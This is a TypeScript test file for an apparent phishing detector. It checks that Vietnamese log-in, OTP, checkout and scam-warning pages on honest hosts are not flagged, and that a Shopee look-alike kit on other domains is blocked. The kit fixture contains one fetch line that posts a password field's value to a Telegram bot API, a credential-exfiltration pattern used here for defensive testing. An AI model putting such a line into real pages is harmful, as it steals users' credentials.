import { describe, expect, test } from "vitest";
import type { PageFacts } from "../../../../src/core/evidence/page-facts.ts";
import { givenHonestHosts, HONEST_HOSTS, ownHonestHosts } from "../../../fixtures/honest-hosts.ts";
import { field, page, verdictOn } from "./pages.ts";

const PASSWORD = field("Mật khẩu", { type: "password", hint: "password" });
const CARD = [field("Số thẻ", { hint: "cc-number" }), field("CVV", { hint: "cc-csc" })];

/** What honest sites ask for, under the name that their own host bears. */
const SHAPES: Record<string, (name: string) => Partial<PageFacts>> = {
  "a log-in": (name) => ({
    title: `${name} - Đăng nhập`,
    banner: name,
    closing: `© 2026 ${name}`,
    fields: [field("Email hoặc số điện thoại"), PASSWORD],
    forms: [{ action: "", around: `Đăng nhập ${name}` }],
    text: `Đăng nhập ${name}. Quên mật khẩu? Đăng nhập bằng Google hoặc Facebook.`,
  }),
  "a log-in with a code": (name) => ({
    title: `Xác thực hai bước | ${name}`,
    marks: [{ text: name, linksTo: "" }],
    fields: [field("Mã xác thực (OTP)", { hint: "one-time-code" })],
    text: `Nhập mã OTP vừa gửi tới số điện thoại của bạn. Mã hết hạn sau 5 phút. © ${name}`,
  }),
  "a till": (name) => ({
    title: `Thanh toán - ${name}`,
    banner: name,
    closing: `Công ty TNHH ${name}. MST 0101234567`,
    fields: [field("Họ tên"), field("Số điện thoại", { type: "tel" }), ...CARD],
    marks: [
      { text: name, linksTo: "" },
      { text: "Visa", linksTo: "" },
      { text: "MoMo", linksTo: "" },
    ],
    text: `Thanh toán khi nhận hàng, thẻ Visa, ví MoMo. Đổi trả trong 7 ngày. Giao trong 24 giờ. Công ty TNHH ${name}. MST 0101234567`,
  }),
  "an article that quotes a scam": (name) => ({
    title: `Cảnh báo lừa đảo mạo danh Vietcombank - ${name}`,
    banner: name,
    fields: [field("Tìm kiếm", { type: "search" }), field("Email", { type: "email" })],
    text: "“Tài khoản Vietcombank của bạn sẽ bị khóa, nhập mật khẩu và mã OTP trong 24 giờ”, kẻ gian nhắn. Không cung cấp mã OTP cho bất kỳ ai.",
    paragraphs: 6,
    hasArticle: true,
  }),
};

/** "www.tuoitre.vn" → "Tuoitre". */
function nameOf(host: string): string {
  const [label = ""] = host.replace(/^www\./, "").split(".");
  return label.charAt(0).toUpperCase() + label.slice(1);
}

/** Beside another's name in their own, a log-in under it can't be told from a copy by anybody. */
const IN_ANOTHERS_NAME = new Set([
  "google-analytics.com",
  "twitter-video-download.com",
  "vinmart.com",
]);

const given = givenHonestHosts();

describe.each([
  ["of this repository", ownHonestHosts()],
  ["of the project's data", given],
])(`${HONEST_HOSTS} honest hosts %s are never accused`, (_, hosts) => {
  test.skipIf(hosts === null).each(Object.entries(SHAPES))("with %s", (_, shape) => {
    const accused = (hosts ?? []).filter((host) => {
      if (IN_ANOTHERS_NAME.has(host)) return false;
      const facts = page(`https://${host}/`, shape(nameOf(host)));
      return verdictOn(facts).level !== "none";
    });
    expect(accused).toEqual([]);
  });
});

test("such a host is no pass for what no honest page does, nor is a short name for whoever puts it first", () => {
  const kit: Partial<PageFacts> = {
    title: "Shopee - Đăng nhập",
    banner: "Shopee",
    marks: [{ text: "Shopee", linksTo: "" }],
    fields: [field("Số điện thoại"), PASSWORD, field("Mã OTP")],
    text: "Tài khoản Shopee sẽ bị khóa trong 24 giờ. Xác minh ngay.",
    script: "fetch('https://api.telegram.org/bot1:x/sendMessage',{method:'POST',body:p.value})",
  };
  expect(verdictOn(page("https://shopee.lt/", kit)).level).not.toBe("none");
  expect(verdictOn(page("https://shopee.top/", kit)).level).toBe("block");
  expect(
    verdictOn(page("https://cskh.example.top/", { ...kit, banner: "CSKH Shopee" })),
  ).toMatchObject({
    level: "block",
    brand: "Shopee",
  });
});
